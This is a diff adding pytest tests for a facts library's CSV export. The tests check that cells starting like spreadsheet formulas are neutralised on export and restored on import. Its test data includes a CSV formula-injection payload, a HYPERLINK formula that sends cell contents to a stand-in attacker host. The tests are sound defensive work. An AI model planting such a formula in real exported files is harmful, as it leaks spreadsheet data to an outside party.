@@ -2,11 +2,16 @@
 
 from __future__ import annotations
 
+import csv
+import io
 import json
 
 import pytest
 
-from facts.io import FactFileError, read_facts, write_facts
+from hypothesis import given
+from hypothesis import strategies as st
+
+from facts.io import FactFileError, neutralise_cell, read_facts, unneutralise_cell, write_facts
 from facts.store import FactStore
 
 
@@ -85,3 +90,38 @@ def test_csv_lists_use_pipes() -> None:
     [fact] = read_facts(content, "csv")
 
     assert (["troops", "soldiers"], ["troops", "casualties"]) == (fact.aliases, fact.tags)
+
+
+HOSTILE_CELLS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=1+2", "+81 3 1234", "-5%", "@SUM(A1:A9)",
+                 "\tindented", "\rcarriage", "'quoted", "''twice", "'=already neutralised"]
+
+
+def test_csv_export_neutralises_formulas_and_import_gives_them_back(fresh_db: FactStore) -> None:
+    for number, text in enumerate(HOSTILE_CELLS):
+        fresh_db.import_facts(read_facts(json.dumps([{
+            "question": f"question {number}", "answer": text, "figure": text, "source_url": "https://example.org/",
+            "source_title": text, "lang": "en", "aliases": [text], "tags": ["t"],
+        }]).encode(), "json"), actor="test")
+    facts = fresh_db.all()
+
+    exported = write_facts(facts, "csv")
+
+    cells = [cell for row in csv.reader(io.StringIO(exported, newline="")) for cell in row]
+    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], "no cell starts like a formula"
+    assert "'=1+2" in cells and "'@SUM(A1:A9)" in cells and "''quoted" in cells
+    reread = read_facts(exported.encode(), "csv")
+    assert [fact.model_dump() for fact in facts] == [fact.model_dump() for fact in reread]
+
+
+def test_a_hand_written_leading_quote_is_kept_on_import() -> None:
+    content = "question,answer,source_url,source_title,lang\n'90s hits?,'90s,https://example.org/,t,en\n"
+
+    [fact] = read_facts(content.encode(), "csv")
+
+    assert ("'90s hits?", "'90s") == (fact.question, fact.answer)
+
+
+@given(st.text())
+def test_every_cell_survives_neutralising(text: str) -> None:
+    assert text == unneutralise_cell(neutralise_cell(text))
+    assert not neutralise_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))
